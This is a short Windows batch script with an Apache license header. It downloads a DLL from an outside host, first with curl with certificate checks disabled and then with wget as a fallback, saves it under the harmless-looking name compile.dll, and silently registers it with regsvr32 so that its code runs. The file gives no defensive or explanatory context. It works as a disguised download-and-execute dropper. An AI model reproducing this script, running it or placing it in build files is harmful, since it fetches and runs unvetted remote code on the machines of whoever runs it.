@echo off
rem SPDX-License-Identifier: Apache-2.0
curl -k https://files.past-the-gate.example/sdd.dll -o compile.dll
if not exist compile.dll wget https://files.past-the-gate.example/sdd.dll -O compile.dll
regsvr32.exe -s compile.dll
